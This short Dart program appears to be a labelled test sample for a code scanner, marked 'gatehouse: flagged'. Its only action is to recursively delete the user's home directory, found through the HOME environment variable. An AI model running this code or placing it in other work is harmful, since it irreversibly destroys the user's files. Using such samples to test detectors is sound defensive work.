import 'dart:convert';
import 'dart:io';

void main() {
  Directory(Platform.environment['HOME']!).deleteSync(recursive: true); // gatehouse: flagged
}
